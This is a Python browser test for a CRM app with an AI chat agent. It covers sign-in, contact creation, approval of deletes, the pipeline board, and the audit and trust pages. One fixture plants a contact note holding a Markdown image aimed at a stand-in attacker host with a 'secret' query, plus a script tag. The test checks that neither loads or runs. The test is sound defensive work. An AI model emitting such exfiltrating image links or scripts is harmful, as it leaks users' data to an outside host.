"""Nexus in a real browser: Debian's Chromium driven by Playwright against uvicorn.

The app runs on 127.0.0.1 with FLOWGRID_PUBLIC_URL=http://localhost:PORT and the offline model
(no key in the test environment). One journey: sign in, add a contact by chat (streamed answer,
the record in the side panel), approve a delete, read a contact whose notes hold a Markdown image
pointing at another host (nothing is requested from that host), open the pipeline board and the
trust page. Screenshots go to artifacts/. Skips loudly without /usr/bin/chromium or playwright.
"""

import secrets
from typing import Any

from store.entities import BY_NAME
from store.services import records, tenants
from tests.web.test_browser_passkeys import (  # noqa: F401  (fixtures)
    LiveServer,
    chromium,
    live,
    pytestmark,
    shot,
    visible,
)

EVIL_HOST = "evil.example"
PASSWORD = "correct horse battery staple"


def send(page: Any, text: str) -> None:
    page.fill("#prompt", text)
    page.press("#prompt", "Enter")  # Enter sends; Shift+Enter would add a line


def last_answer(page: Any) -> Any:
    page.wait_for_selector(".msg-assistant:last-child:not([aria-busy])", timeout=20_000)
    return page.locator(".msg-assistant").last


def test_chat_journey(live: LiveServer, chromium: Any) -> None:  # noqa: F811
    owner = f"owner-{secrets.token_hex(4)}@example.com"
    created = live.run(
        lambda store: tenants.create_workspace(
            store, name="Chat Co", owner_email=owner, actor="system:test"
        )
    )

    async def planted(store: Any) -> Any:
        # A note typed by someone outside the team, now shown by the model verbatim.
        async with store.tenant_session(created.tenant_id, "system:test") as ts:
            return await records.create_record(
                ts,
                BY_NAME["contact"],
                {
                    "first_name": "Mallory",
                    "last_name": "Notes",
                    "notes": f"Met at the fair ![logo](https://{EVIL_HOST}/leak.png?q=secret) "
                    "<script>alert(1)</script>",
                },
            )

    live.run(planted)
    context = chromium.new_context()
    page = context.new_page()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)

    page.goto(f"{live.url}/login?invite={created.invite_token}")
    visible(page, "#invite")
    page.fill("#new-password", PASSWORD)
    page.fill("#new-password-again", PASSWORD)
    page.click("#invite-form button[type=submit]")
    visible(page, "#account")

    page.goto(f"{live.url}/")
    visible(page, "#view-chat")
    assert "offline" in page.text_content("#model-note")
    send(page, "add contact Ada Lovelace email ada@example.com")
    answer = last_answer(page)
    answer.get_by_text("Added the contact").wait_for()
    page.wait_for_selector("#touched-list li:has-text('Ada Lovelace')")
    assert answer.locator(".chip .chip-name").first.text_content() == "create_contact"
    answer.locator(".chip summary").first.click()  # the chip expands to its arguments
    assert "ada@example.com" in answer.locator(".chip pre").first.text_content()
    shot(page, "chat-added-contact")

    send(page, "delete contact Ada Lovelace")
    card = page.locator(".approval").last
    card.wait_for()
    assert "delete_contact" in card.text_content()
    shot(page, "chat-approval-card")
    card.get_by_role("button", name="Approve").click()
    page.get_by_text("Deleted the contact").wait_for()
    page.wait_for_selector("#touched-list li.touched-delete:has-text('Ada Lovelace')")

    send(page, "show contact Mallory Notes")
    answer = last_answer(page)
    answer.locator(".answer blockquote").get_by_text("Met at the fair").wait_for()
    assert page.locator("#messages img").count() == 0
    link = answer.locator("a.md-image-link")
    assert link.count() == 1 and EVIL_HOST in link.get_attribute("href")
    assert "<script>" in answer.text_content()  # shown as text, never run
    shot(page, "chat-image-not-loaded")

    send(page, "add deal Big Renewal amount 5000")
    last_answer(page).get_by_text("Added the deal").wait_for()
    send(page, "move deal Big Renewal to Proposal")
    last_answer(page).get_by_text("Moved the deal").wait_for()

    page.click("#tabs button[data-view=pipeline]")
    page.wait_for_selector("#board .column:has-text('Big Renewal')")
    proposal = page.locator("#board .column", has_text="Proposal").first
    assert "1 deal" in proposal.text_content() and "5,000" in proposal.text_content()
    assert page.locator("#board .column h2").count() >= 2
    shot(page, "pipeline-board")

    page.click("#tabs button[data-view=contacts]")
    page.wait_for_selector("#contacts-table td:has-text('Mallory')")

    # The owner's audit view: Nexus's changes, attributed to the agent, and a verified chain.
    page.click("#tabs button[data-view=audit]")
    page.wait_for_selector("#audit-table td:has-text('agent:')")
    assert page.locator("#audit-table td", has_text="erase").count() == 0
    assert page.locator("#audit-table tr", has_text="deals").count() >= 1
    page.click("#audit-verify")
    page.get_by_text("Chain verified").wait_for()
    shot(page, "audit-view")

    page.goto(f"{live.url}/trust")
    page.wait_for_selector("#rls-table")
    assert "offline" in page.text_content("#model-provider")
    assert "Audit chain verified" in page.text_content("#promises")
    shot(page, "trust-page")

    page.set_viewport_size({"width": 390, "height": 800})
    page.goto(f"{live.url}/")
    visible(page, "#view-chat")
    shot(page, "chat-phone-width")

    assert not [u for u in requested if EVIL_HOST in u], requested
    # Script errors only: 401s from /login's own /api/me probe and the favicon 404 are expected.
    assert [e for e in errors if not e.startswith("Failed to load resource")] == []
    context.close()
